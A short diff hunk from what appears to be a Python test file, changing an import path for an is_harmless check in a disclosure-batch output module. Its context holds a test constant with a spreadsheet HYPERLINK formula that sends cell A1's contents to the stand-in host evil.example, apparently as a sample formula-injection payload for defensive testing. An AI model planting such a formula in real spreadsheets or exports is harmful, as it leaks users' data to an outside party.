@@ -12,7 +12,7 @@ import pytest
 from lxml import html
 
 from disclosure_batch.outputs.marked import ENDING as MARKED
-from disclosure_batch.outputs.marked import is_harmless
+from disclosure_batch.outputs.marking import is_harmless
 from tests.district import FORM, YEAR, District, Run, cell_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"请点击")'
